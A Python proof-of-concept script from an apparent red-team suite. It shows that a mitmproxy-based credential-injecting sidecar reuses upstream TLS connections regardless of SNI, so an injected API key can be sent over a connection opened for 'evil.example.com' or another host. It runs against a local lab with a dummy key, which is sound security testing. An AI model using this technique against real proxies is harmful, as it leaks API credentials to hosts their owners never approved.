"""The injected key rides on an upstream TLS connection that was opened (SNI + certificate
check) for a different host: mitmproxy reuses server connections by (address, port, tls)
only, never by SNI, and the sidecar does not stop it.

Audit mode: the gateway first asks for an UNLISTED host (would_block, no key) whose DNS
answer equals the provider's address; then, on the same client connection, for the
provider. The provider request (key injected) is written on the unlisted host's TLS
connection. Enforce mode: the same with an `allow:` entry host.

Run: .venv/bin/python -m redteam.proxy.conn_reuse_sni [audit|enforce]
"""
from __future__ import annotations

import socket
import ssl
import sys
import threading
import time

import trustme

from redteam.proxy.harness import KEY, Lab, recv_head

MODE = sys.argv[1] if len(sys.argv) > 1 else "audit"
FIRST = "evil.example.com" if MODE == "audit" else "other.example.com"


class SniUpstream:
    """TLS upstream that records, per TCP connection, the SNI and each request head."""

    def __init__(self, ca: trustme.CA, names):
        self.cert = ca.issue_cert(*names)
        self.log: list[tuple[int, str | None, bytes]] = []
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.stop = threading.Event()
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        n = 0
        while not self.stop.is_set():
            try:
                c, _ = self.sock.accept()
            except (socket.timeout, TimeoutError):
                continue
            n += 1
            threading.Thread(target=self.conn, args=(c, n), daemon=True).start()

    def conn(self, c, n):
        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self.cert.configure_cert(ctx)
        seen = {}
        ctx.sni_callback = lambda s, name, _ctx: seen.__setitem__("sni", name)
        try:
            t = ctx.wrap_socket(c, server_side=True)
            t.settimeout(5)
            for _ in range(10):
                head = recv_head(t)
                if not head:
                    break
                self.log.append((n, seen.get("sni"), head))
                t.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
        except Exception:
            pass
        finally:
            c.close()


def main():
    # The Lab's own raw upstream is not used; the policy port is ours.
    lab = Lab(mode=MODE)
    up = SniUpstream(lab.ca, ["api.openai.com", "other.example.com", "evil.example.com"])
    try:
        lab.policy_path.write_text(lab.policy_path.read_text().replace(str(lab.up.port), str(up.port)))
        time.sleep(1.5)  # reload
        s = socket.create_connection(("127.0.0.1", lab.listen), timeout=5)
        for host, path in ((FIRST, "/v1/first"), ("api.openai.com", "/v1/second")):
            s.sendall(f"GET https://{host}:{up.port}{path} HTTP/1.1\r\nHost: {host}:{up.port}\r\n"
                      f"Authorization: Bearer sk-dummy\r\n\r\n".encode())
            head = recv_head(s)
            print(f"gateway -> {host}: {head.split(b'\r\n')[0]!r}")
        s.close()
        time.sleep(0.5)
        for n, sni, head in up.log:
            lines = head.decode("latin-1").split("\r\n")
            auth = [line for line in lines if line.lower().startswith("authorization")]
            print(f"upstream TCP conn #{n} TLS SNI={sni!r}: {lines[0]}  host={[l for l in lines if l.lower().startswith('host')]}"
                  f"  carries injected key={any(KEY in a for a in auth)}")
        for d in lab.sc.decisions:
            print("  DECISION", d["decision"], d["reason"], d["host"], d["path"], d.get("detail"))
    finally:
        up.stop.set()
        lab.close()


if __name__ == "__main__":
    main()
